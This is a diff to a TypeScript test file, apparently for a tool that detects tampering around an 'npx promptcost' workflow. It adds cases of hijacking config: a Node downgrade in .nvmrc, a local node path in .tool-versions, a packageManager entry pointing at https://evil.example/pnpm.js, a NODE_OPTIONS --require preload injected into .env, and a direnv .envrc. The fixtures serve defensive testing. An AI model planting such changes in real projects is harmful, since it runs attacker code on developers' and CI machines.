@@ -234,4 +234,29 @@ export const aroundTheWorkflow: readonly Trick[] = [
     { 'packages/x/package.json': '{"name":"promptcost","bin":"x.js"}', 'packages/x/x.js': '' },
     'packages/x/package.json',
   ),
+  way(
+    'another Node by `.nvmrc`',
+    { [at]: command('npx promptcost'), '.nvmrc': 'v22.1.0\n' },
+    { '.nvmrc': 'v8.1.0\n' },
+    '.nvmrc',
+  ),
+  way(
+    'another Node by `.tool-versions`',
+    { [at]: command('npx promptcost'), '.tool-versions': 'nodejs 22.1.0\n' },
+    { '.tool-versions': 'nodejs path:./node\n' },
+    '.tool-versions',
+  ),
+  way(
+    'another package manager',
+    { [at]: command('npx promptcost'), 'package.json': '{"packageManager":"pnpm@9.1.0"}' },
+    { 'package.json': '{"packageManager":"pnpm@https://evil.example/pnpm.js"}' },
+    'packageManager',
+  ),
+  way(
+    'a variable in `.env` by which Node runs a file first',
+    { [at]: command('npx promptcost'), '.env': 'API=a\n' },
+    { '.env': 'API=a\nNODE_OPTIONS=--require ./x.cjs\n' },
+    'NODE_OPTIONS',
+  ),
+  way('a file that direnv runs', { [at]: command('npx promptcost') }, { '.envrc': 'PATH_add ./bin\n' }, '.envrc'),
 ]
